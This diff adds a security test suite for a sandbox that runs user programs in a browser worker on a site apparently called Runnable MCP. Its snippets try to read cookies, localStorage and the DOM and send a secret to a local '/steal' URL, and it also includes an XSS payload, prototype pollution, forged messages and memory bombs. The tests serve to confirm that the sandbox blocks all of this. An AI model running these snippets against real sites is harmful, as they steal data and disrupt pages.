@@ -1,0 +1,291 @@
+import { createServer, type Server } from 'node:http';
+import type { Page } from 'playwright-core';
+import { afterAll, afterEach, beforeAll, expect, test } from 'vitest';
+import {
+  addSession,
+  findOutput,
+  runInPage,
+  type PageRun,
+} from './open-run-page.ts';
+import { openSite, type Site } from './open-site.ts';
+
+const name = 'v1/cancellation/shared-signal';
+const secret = 'secret-of-the-site';
+
+let site: Site;
+let page: Page;
+let errors: string[];
+/** A server that would welcome anybody, and writes down who comes. */
+let hostile: Server;
+let url: string;
+const visits: string[] = [];
+
+beforeAll(async () => {
+  hostile = createServer((request, response) => {
+    visits.push(`${request.method} ${request.url}`);
+    response.writeHead(200, {
+      'access-control-allow-origin': '*',
+      'content-type': 'text/javascript',
+    });
+    response.end('globalThis.reached = true;');
+  });
+  hostile.on('connection', () => visits.push('a connection'));
+  await new Promise<void>((resolve) => hostile.listen(0, '127.0.0.1', resolve));
+  const address = hostile.address();
+  const port = typeof address === 'object' ? address?.port : undefined;
+  url = `http://127.0.0.1:${port}`;
+  site = await openSite();
+  ({ page, errors } = await site.open('/cancellation/'));
+  await page.evaluate((value) => {
+    localStorage.setItem('secret', value);
+    document.cookie = `secret=${value}`;
+    const heard: unknown[] = [];
+    Object.assign(window, { heard });
+    new BroadcastChannel('site').onmessage = ({ data }) => heard.push(data);
+    addEventListener('message', ({ data }) => heard.push(data));
+  }, secret);
+  const body = hostileRuntime;
+  await page.route('**/run/runtime-v2.*.js', (route) =>
+    route.fulfill({ body, contentType: 'text/javascript' }),
+  );
+  await addSession(page);
+}, 60_000);
+afterAll(async () => {
+  await site.close();
+  hostile.close();
+  hostile.closeAllConnections();
+});
+
+afterEach(async () => {
+  const run = await runInPage(page, { name, way: 'memory' });
+  expect(run.outcome).toBe('finished');
+  expect(findOutput(run)).toBe('found Dracula\nfound Middlemarch\n');
+  expect(visits).toStrictEqual([]);
+  const heard = await page.evaluate(
+    () => Reflect.get(window, 'heard') as unknown,
+  );
+  expect(heard).toStrictEqual([]);
+  expect(await page.title()).toContain('Runnable MCP');
+});
+
+function expectFlood(run: PageRun): void {
+  expect(run.outcome).toBe('failed');
+  expect(run.events.at(-1)).toMatchObject({
+    type: 'fault',
+    text: 'It sent more than a page takes: 4,000 messages, or 4 MB',
+  });
+}
+
+/** What an attack tries; it would print what it gets. */
+const refused: Record<string, string> = {
+  'local storage': `localStorage.secret`,
+  'a cookie': `document.cookie`,
+  'the DOM of the site': `parent.document.title`,
+  'the cookie store': `(await cookieStore.getAll()).length`,
+  'a database': `await new Promise((resolve, reject) => {
+    const opening = indexedDB.open('site');
+    opening.onsuccess = resolve;
+    opening.onerror = () => reject(opening.error);
+  })`,
+  'a cache': `await caches.open('site')`,
+  'the private file system': `await navigator.storage.getDirectory()`,
+  'a lock': `await navigator.locks.request('site', () => 'got it')`,
+  'fetch()': `await fetch(url)`,
+  'fetch() of the site': `await fetch(siteUrl)`,
+  'a request of no answer': `await fetch(url, { mode: 'no-cors' })`,
+  XMLHttpRequest: `await new Promise((resolve, reject) => {
+    const request = new XMLHttpRequest();
+    request.open('GET', url);
+    request.onload = resolve;
+    request.onerror = () => reject(new Error('blocked'));
+    request.send();
+  })`,
+  'a WebSocket': `await new Promise((resolve, reject) => {
+    const socket = new WebSocket(url.replace('http', 'ws'));
+    socket.onopen = resolve;
+    socket.onerror = () => reject(new Error('blocked'));
+  })`,
+  'an EventSource': `await new Promise((resolve, reject) => {
+    const source = new EventSource(url);
+    source.onopen = resolve;
+    source.onerror = () => reject(new Error('blocked'));
+  })`,
+  'a WebTransport': `await new WebTransport(url.replace('http', 'https')).ready`,
+  'a font': `await new FontFace('f', \`url(\${url}/f.woff2)\`).load()`,
+  'importScripts()': `importScripts(url)`,
+  'a remote import': `await new Function('u', 'return import(u)')(url)`,
+  'a worker of another server': `await new Promise((resolve, reject) => {
+    const worker = new Worker(url);
+    worker.onmessage = resolve;
+    worker.onerror = () => reject(new Error('blocked'));
+  })`,
+  'a worker that fetches': `await new Promise((resolve, reject) => {
+    const code = \`fetch('\${url}').then(() => postMessage(1), () => postMessage(0))\`;
+    const worker = new Worker('data:text/javascript,' + encodeURIComponent(code));
+    worker.onmessage = ({ data }) => (data ? resolve('reached') : reject(new Error('blocked')));
+    worker.onerror = () => reject(new Error('blocked'));
+  })`,
+  'a worker from a blob that fetches': `await new Promise((resolve, reject) => {
+    const code = \`fetch('\${url}').then(() => postMessage(1), () => postMessage(0))\`;
+    const worker = new Worker(URL.createObjectURL(new Blob([code])));
+    worker.onmessage = ({ data }) => (data ? resolve('reached') : reject(new Error('blocked')));
+    worker.onerror = () => reject(new Error('blocked'));
+  })`,
+  'eval()': `eval('1 + 1')`,
+  'new Function()': `new Function('return 1')()`,
+  'a timer with a text': `setTimeout('postMessage(1)', 0)`,
+  postMessage: `postMessage('x')`,
+  'postMessage from further up': `Reflect.get(DedicatedWorkerGlobalScope.prototype, 'postMessage').call(self, 'x')`,
+  WebAssembly: `await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))`,
+};
+
+test.each(Object.entries(refused))('a program gets no %s', async (_, code) => {
+  const run = await attack(`try {
+    console.log('got', ${code});
+  } catch (error) {
+    console.log('refused');
+  }`);
+  expect(findOutput(run)).toBe('refused\n');
+});
+
+test('an import() of another server is refused, which the text of a module may still hold', async () => {
+  const run = await attack(`const load = 'import';
+  const module = \`\${load}('\${url}').then(() => 'got it', () => 'refused').then((text) => (globalThis.answer = text))\`;
+  await import(/* the rewriting sees no specifier */ URL.createObjectURL(new Blob([module], { type: 'text/javascript' })));
+  while (!globalThis.answer) await new Promise((resolve) => setTimeout(resolve, 5));
+  console.log(globalThis.answer);`);
+  expect(findOutput(run)).toBe('refused\n');
+});
+
+test('a program has an origin of its own, and no window', async () => {
+  const run = await attack(
+    `console.log(self.origin, typeof window, typeof document, typeof parent);`,
+  );
+  expect(findOutput(run)).toBe('null undefined undefined undefined\n');
+});
+
+test('a BroadcastChannel of a program does not reach the site', async () => {
+  const run = await attack(`const channel = new BroadcastChannel('site');
+  channel.onmessage = ({ data }) => console.log('heard', data);
+  channel.postMessage('from the program');
+  await new Promise((resolve) => setTimeout(resolve, 50));
+  channel.close();
+  console.log('alone');`);
+  expect(findOutput(run)).toBe('alone\n');
+});
+
+test('a flood of output ends the run by itself', async () => {
+  const run = await attack(`for (;;) console.log('x');`);
+  expectFlood(run);
+  expect(run.events.length).toBeLessThanOrEqual(4001);
+});
+
+test('an output that is too large ends the run by itself', async () => {
+  const run = await attack(`console.log('x'.repeat(5_000_000)); for (;;);`);
+  expectFlood(run);
+});
+
+test('a memory bomb ends, by itself or by Stop', async () => {
+  const run = await attack(
+    `const all = [];
+  for (;;) all.push(new Array(1_000_000).fill(Math.random()));`,
+    3000,
+  );
+  expect(run.outcome).toMatch(/^(?:failed|stopped)$/);
+});
+
+test('a bomb of buffers ends, by itself or by Stop', async () => {
+  const run = await attack(
+    `const all = [];
+  for (;;) all.push(new Uint8Array(50_000_000).fill(1));`,
+    3000,
+  );
+  expect(run.outcome).toMatch(/^(?:failed|stopped)$/);
+});
+
+test('self.close() ends the run', async () => {
+  const run = await attack(`self.close();
+  await new Promise((resolve) => setTimeout(resolve, 60_000));`);
+  expect(run.outcome).toBe('failed');
+  expect(run.events.at(-1)).toMatchObject({
+    text: 'Error: close() ended the worker',
+  });
+});
+
+/** What a worker does whose very runtime has been taken over. */
+const hostileRuntime = `postMessage('ready');
+const post = {
+  flood: () => { for (;;) postMessage('{"type":"output","text":"x"}'); },
+  objects: () => { for (;;) postMessage({ type: 'ended' }); },
+  large: () => { postMessage('x'.repeat(5_000_000)); for (;;); },
+  forge: () => { postMessage('{"type":"ended","outcome":"finished"}'); for (;;); },
+  deaf: () => { postMessage('{"type":"stopping"}'); postMessage('{"type":"output","text":"go"}'); for (;;); },
+  odd: () => {
+    const entry = { from: 'client', message: { jsonrpc: '2.0', method: {} } };
+    [
+      'no json', '[]', 'null', '{"type":"html","text":"<img src=x onerror=alert(1)>"}',
+      '{"type":"output","text":{"toString":1}}',
+      '{"__proto__":{"polluted":true},"type":"output"}',
+      JSON.stringify({ type: 'message', entry }),
+      JSON.stringify({ type: 'ended', outcome: 'stopped' }),
+      { type: 'end' }, { type: 'told', run: 1, text: '{}' }, 7, null, [],
+    ].forEach((message) => postMessage(message));
+    postMessage('{"type":"ended","outcome":"failed"}');
+  },
+};
+addEventListener('message', ({ data }) => {
+  if (!data.run) return;
+  const [name] = Object.keys(post).filter((name) => data.run.snippet.text.includes('// ' + name));
+  post[name]();
+});`;
+
+test.each(['flood', 'objects', 'large'])(
+  'a worker that has been taken over ends by itself: %s',
+  async (what) => expectFlood(await attackFrame(what)),
+);
+
+test('messages that are no events are dropped', async () => {
+  const run = await attackFrame('odd');
+  expect(run).toMatchObject({ outcome: 'failed', events: [] });
+  const polluted = await page.evaluate(() => 'polluted' in {});
+  expect(polluted).toBe(false);
+});
+
+test('a program that forges its end has ended', async () => {
+  expect((await attackFrame('forge')).outcome).toBe('finished');
+});
+
+test('a program that says that it stops and does not is ended', async () => {
+  const run = await attackFrame('deaf');
+  expect(run.outcome).toBe('stopped');
+  expect(run.ms.stop).toBeLessThanOrEqual(50);
+});
+
+test('no attack leaves an error of the page', () => {
+  // What the policy of the frame refuses is reported there.
+  const own = errors.filter(
+    (text) => !/Content Security Policy|violates/i.test(text),
+  );
+  expect(own).toStrictEqual([]);
+});
+
+function attack(code: string, stopAfter?: number) {
+  const edited = `export async function run() {
+  const url = ${JSON.stringify(`${url}/steal?${secret}`)};
+  const siteUrl = ${JSON.stringify(`${site.url}/`)};
+  ${code}
+}
+`;
+  const when = stopAfter === undefined ? {} : { stopAfter };
+  return runInPage(page, { name, way: 'memory', edited, ...when });
+}
+
+function attackFrame(what: string) {
+  const edited = `export async function run() {} // ${what}`;
+  const wanted = {
+    name: name.replace('v1', 'v2'),
+    way: 'memory',
+    edited,
+  } as const;
+  return runInPage(page, { ...wanted, stopAt: 'go' });
+}
